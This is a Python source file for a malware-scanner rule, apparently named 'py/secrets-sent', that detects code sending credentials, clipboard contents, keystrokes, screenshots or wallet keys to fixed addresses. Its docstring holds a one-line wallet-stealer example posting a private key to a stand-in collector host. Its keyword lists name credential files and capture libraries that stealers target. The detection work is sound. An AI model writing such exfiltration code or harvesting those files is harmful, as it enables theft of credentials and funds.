"""What it sees
    The content of a file that holds credentials (`.ssh`, `.aws/credentials`, `/etc/passwd`, browser stores), the
    clipboard, the screen, keystrokes or the camera in something that is sent away; and parameters called private
    key, mnemonic or seed that leave for a constant address.

Why it matters
    No library needs to send these anywhere. The last shape is the typical wallet stealer: a helper that does what
    it says and posts the key that it was given.

Example
    def sign(private_key): requests.post("https://collect.example.test/k", json={"k": private_key})

What to do
    Do not use it. Move funds from every wallet whose key went through it; rotate the credentials that it reads.

False alarms
    A client of a signing service sends keys to the address that its user configured: not a constant, not reported.

References
    ATT&CK T1552.004 (Private Keys), T1115 (Clipboard Data), T1113 (Screen Capture), T1056.001 (Keylogging), T1041.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.pycode import Place, Sending, defanged, once, sendings
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.py_words import terms
from lazaretto.parse.python import PythonModule

_SENT = N_("sends {what} to {address}")
_SENT_AWAY = N_("sends {what} away")
_FILES = N_("searches folders for files and sends them to {address}")
_CALLER = N_("sends the source code of the program that uses it to {address}")
_QUIET = N_("sends a credential that its caller gave it ({what}) to {address}, and swallows every error")
_UPLOADS = N_("sends the content of a file to {address}, an address without a name")
_PASSWORD = N_("sends what was typed in as a secret ({what}) to a collector: {address}")
_KEY = N_("sends a secret that its caller gave it ({what}) to {address}")

_HINTS = terms(
    b".ssh", b"id_rsa", b".aws", b".kube", b".git-cred", b".netrc", b".pypirc", b"/etc/passwd", b"/etc/shadow",
    b"eychain", b"Login Data", b"Web Data", b"Cookies", b"logins.json", b"leveldb", b"wallet", b"exodus", b"tdata",
    b"browser_cookie3", b"CryptUnprotect", b"keyring", b"pyperclip", b"lipboard", b"ImageGrab", b"screenshot",
    b"pynput", b"keyboard.", b"VideoCapture", b"mss.", b"privatekey", b"private_key", b"privkey", b"priv_key",
    b"mnemonic",
    b"seed", b"listdir", b"os.walk", b"keypair", b"launcher_accounts", b"microsoft_accounts", b".lunarclient",
    b"from_key", b"from_secret", b"from_base58", b"from_seed", b"from_private",
    b"inspect.stack", b"getouterframes", b"currentframe", b"_getframe", b"os.scandir", b"glob(", b".rglob",
    b"make_archive",
    b"Account.create", b"Keypair(", b"Keypair.generate", b"hidden answer", b"dump-keychain", b"api_key", b"apikey",
    b"loginusers", b"ssfn",
    b"_history", b"input_hist", b"history_manager", b"serviceaccount", b"169.254.169.254", b"metadata.google",
    b"key=clear", b"ssword", b"passwd", b"words", b"phrase", b"rivate key", b"rivate Key",
    b"access_key_secret", b"secret_access_key", b"api_secret", b"client_secret", b"accesskeysecret",
)  # fmt: skip
_WHAT = {
    "secret:ssh": "SSH keys", "secret:cloud": "cloud keys", "secret:tokens": "stored tokens",
    "secret:accounts": "the account list",
    "secret:keychain": "the keychain", "secret:browser": "browser secrets", "secret:discord": "chat tokens",
    "secret:wallet": "wallet files", "secret:telegram": "chat sessions", "secret:game": "game accounts",
    "secret:keyring": "the keyring", "secret:home": "personal folders",
    "secret:key": "the keys of a wallet that it makes",
    "secret:history": "the history of commands", "typed:phrase": "the key or password that it asks for",
    "clip": "the clipboard", "screen": "the screen", "keys": "keystrokes", "camera": "the camera",
}  # fmt: skip


def check(view: PythonModule) -> Iterator[Match]:
    """Yield sendings of secrets, one a line."""
    if not view.speaks("net") or not view.mentions(_HINTS):
        return
    seen: set[object] = set()
    for sending in sendings(view):
        if sending.place is Place.LOCAL:
            continue
        kinds = sorted(tag for tag in sending.tags if tag in _WHAT)
        given = sorted(tag.removeprefix("param:") for tag in sending.tags if tag.startswith("param:"))
        known = sending.place > Place.UNKNOWN
        if _takes_files(view, sending) and once(seen, sending.call.line):
            yield Match(
                _CALLER if "caller" in sending.tags else _FILES,
                sending.call.line,
                sending.call.column,
                params={"address": defanged(sending.address)},
                excerpt=view.quote(sending.call.line),
                severity=Severity.LOW if view.is_test else Severity.HIGH,
                phase=view.phase(sending.call.scope),
                layers=sending.call.layers,
            )
        elif (
            not kinds
            and sending.place is Place.BARE
            and "file" in sending.tags
            and "://" in sending.address
            and once(seen, sending.call.line)
        ):
            yield Match(
                _UPLOADS,
                sending.call.line,
                sending.call.column,
                params={"address": defanged(sending.address)},
                excerpt=view.quote(sending.call.line),
                severity=Severity.LOW if view.is_test or view.is_side else Severity.HIGH,
                confidence=Confidence.HIGH if view.unasked(sending.call.scope) else Confidence.MEDIUM,
                phase=view.phase(sending.call.scope),
                layers=sending.call.layers,
            )
        elif kinds and once(seen, sending.call.line):
            dropped = "net" in sending.call.arg(0, "url").tags  # an address that it fetched
            sure = known or dropped or view.unasked(sending.call.scope)
            yield Match(
                _SENT if known else _SENT_AWAY,
                sending.call.line,
                sending.call.column,
                params={"what": ", ".join(_WHAT[kind] for kind in kinds), "address": defanged(sending.address)},
                excerpt=view.quote(sending.call.line),
                severity=Severity.LOW if view.is_test else Severity.HIGH if sure else Severity.MEDIUM,
                confidence=Confidence.HIGH if sure else Confidence.LOW,
                phase=view.phase(sending.call.scope),
                layers=sending.call.layers,
            )
        elif sending.place is Place.DROP and (typed := _typed(sending)) and once(seen, sending.call.line):
            yield Match(
                _PASSWORD,
                sending.call.line,
                sending.call.column,
                params={"what": typed, "address": defanged(sending.address)},
                excerpt=view.quote(sending.call.line),
                severity=Severity.LOW if view.is_test else Severity.HIGH,
                phase=view.phase(sending.call.scope),
                layers=sending.call.layers,
            )
        elif sending.call.quiet and known and any(tag.startswith("cred:") for tag in sending.tags):
            if once(seen, sending.call.line):
                given = sorted(tag.removeprefix("cred:") for tag in sending.tags if tag.startswith("cred:"))
                plain = set(given) <= _SERVICE_KEYS
                if plain and not _at_construction(view, sending.call.scope):
                    continue  # a client speaks to its service
                yield Match(
                    _QUIET,
                    sending.call.line,
                    sending.call.column,
                    params={"what": ", ".join(given), "address": defanged(sending.address)},
                    excerpt=view.quote(sending.call.line),
                    severity=Severity.LOW if view.is_test else Severity.HIGH,
                    confidence=Confidence.MEDIUM if plain else Confidence.HIGH,
                    phase=view.phase(sending.call.scope),
                    layers=sending.call.layers,
                )
        elif given and known and once(seen, sending.call.line):
            vague = set(given) <= {"seed", "private", "pk", "secret_key", "keypair"}
            yield Match(
                _KEY,
                sending.call.line,
                sending.call.column,
                params={"what": ", ".join(given), "address": defanged(sending.address)},
                excerpt=view.quote(sending.call.line),
                severity=Severity.LOW
                if view.is_test
                else Severity.MEDIUM
                if vague and sending.place < Place.SHARED
                else Severity.HIGH,
                confidence=Confidence.LOW if vague and sending.place < Place.SHARED else Confidence.HIGH,
                phase=view.phase(sending.call.scope),
                layers=sending.call.layers,
            )


_SERVICE_KEYS = frozenset(
    {"api_key", "apikey", "auth_token", "access_token", "session_token", "access_key_id", "secret"}
)
"""What clients send to their service with every request."""


def _at_construction(view: PythonModule, scope: str) -> bool:
    """Tell whether a scope runs as soon as an object is made: before anybody asked it for anything."""
    made = {name for name in view.facts.functions if name.endswith(".__init__")}
    return scope in view.facts.reached_from(made)


_PASSWORDS = frozenset(
    {"typed:password", "cred:password", "cred:passwd", "cred:private_key", "cred:mnemonic", "cred:seed_phrase"}
)
_OWN_BOT = re.compile(r"api\.telegram\.org/bot\0|/webhooks/\0|hooks\.slack\.com/services/\0")


def _typed(sending: Sending) -> str:
    """Name a password that goes to a collector whose address and token are written in the file."""
    found = sorted(tag.partition(":")[2] for tag in sending.tags & _PASSWORDS)
    return ", ".join(found) if found and not _OWN_BOT.search(sending.address) else ""


_WANTED = re.compile(
    r"^(?:\*?\.env(?:\.\w*|[-_])?|\*?\.session|id_rsa|id_ed25519|\*?\.pem|\*?\.wallet|\*?\.kdbx?|wallet\.dat|\*?\.ovpn|\*?\.ppk|\.npmrc|\.pypirc|\.netrc)$"
)
"""Names and endings of files that hold secrets, as programs look for them."""


def _takes_files(view: PythonModule, sending: Sending) -> bool:
    """Tell whether files are searched for and sent: to a collector, or wherever those are that hold secrets."""
    tags = sending.tags
    if "file" not in tags or not {"host:files", "caller"} & tags:
        return False
    if sending.place >= Place.BARE:
        return True
    if sending.place is Place.UNKNOWN or "caller" in tags:
        return False
    return any(_WANTED.match(text) for text, _ in view.facts.strings)


RULE = Rule(
    id="py/secrets-sent",
    title=N_("Sends secrets away"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.SEND,
    check=check,
    doc=__doc__ or "",
    techniques=("T1552.004", "T1041", "T1115", "T1113", "T1056.001"),
)
